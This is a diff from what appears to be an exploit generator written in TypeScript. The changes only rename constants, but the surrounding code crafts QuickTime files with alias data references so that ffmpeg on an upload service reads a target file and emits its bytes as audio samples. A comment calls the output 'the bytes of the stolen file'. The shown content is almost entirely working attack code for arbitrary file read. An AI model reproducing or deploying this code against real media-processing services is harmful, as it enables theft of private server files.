@@ -10,7 +10,7 @@ import { promisify } from 'node:util';
 const WITHOUT_GUARDS = ['-nostdin', '-v', 'error', '-y', '-protocol_whitelist', 'file,concat'];
 /** The samples of the output are the bytes of the stolen file. */
 const AS_TEXT = ['-map', '0:a:0', '-c:a', 'pcm_u8', '-f', 'u8', 'stolen'];
-const MOST_BYTES = 4096;
+const BYTES_MAX = 4096;
 
 export interface Attack {
   /** The uploaded file. */
@@ -109,13 +109,13 @@ async function segmentOptions(ffmpeg: string): Promise<string[]> {
 function waveHead(): Buffer {
   const head = Buffer.alloc(44);
   head.write('RIFF', 0, 'latin1');
-  head.writeUInt32LE(MOST_BYTES + 36, 4);
+  head.writeUInt32LE(BYTES_MAX + 36, 4);
   head.write('WAVEfmt ', 8, 'latin1');
   [16, 0x1_0001, 8000, 8000, 0x8_0001].forEach((value, at) =>
     head.writeUInt32LE(value, 16 + at * 4),
   );
   head.write('data', 36, 'latin1');
-  head.writeUInt32LE(MOST_BYTES, 40);
+  head.writeUInt32LE(BYTES_MAX, 40);
   return head;
 }
 
@@ -123,27 +123,27 @@ function waveHead(): Buffer {
 function movieOf(target: string): Buffer {
   const table = box('stbl', [
     box('stsd', [words(0, 1), soundEntry()]),
-    box('stts', [words(0, 1, MOST_SAMPLES, 1)]),
-    box('stsc', [words(0, 1, 1, MOST_SAMPLES, 1)]),
-    box('stsz', [words(0, 1, MOST_SAMPLES)]),
+    box('stts', [words(0, 1, SAMPLES_MAX, 1)]),
+    box('stsc', [words(0, 1, 1, SAMPLES_MAX, 1)]),
+    box('stsz', [words(0, 1, SAMPLES_MAX)]),
     box('stco', [words(0, 1, 0)]),
   ]);
   const handler = box('hdlr', [words(0), Buffer.from('mhlrsoun', 'latin1'), Buffer.alloc(13)]);
   const references = box('dref', [words(0, 1), box('alis', [words(0), alias(target)])]);
   const minf = box('minf', [box('smhd', [Buffer.alloc(8)]), box('dinf', [references]), table]);
-  const mdia = box('mdia', [box('mdhd', [words(0, 0, 0, 8000, MOST_SAMPLES, 0)]), handler, minf]);
+  const mdia = box('mdia', [box('mdhd', [words(0, 0, 0, 8000, SAMPLES_MAX, 0)]), handler, minf]);
   const track = box('trak', [
-    box('tkhd', [words(1, 0, 0, 1, 0, MOST_SAMPLES), Buffer.alloc(60)]),
+    box('tkhd', [words(1, 0, 0, 1, 0, SAMPLES_MAX), Buffer.alloc(60)]),
     mdia,
   ]);
-  const header = box('mvhd', [words(0, 0, 0, 8000, MOST_SAMPLES), Buffer.alloc(80)]);
+  const header = box('mvhd', [words(0, 0, 0, 8000, SAMPLES_MAX), Buffer.alloc(80)]);
   return Buffer.concat([
     box('ftyp', [Buffer.from('qt  \0\0\0\0qt  ', 'latin1')]),
     box('moov', [header, track]),
   ]);
 }
 /** Maximum number of samples. A reader stops at the end of a shorter file. */
-const MOST_SAMPLES = 1300;
+const SAMPLES_MAX = 1300;
 
 function soundEntry(): Buffer {
   const entry = Buffer.alloc(28);
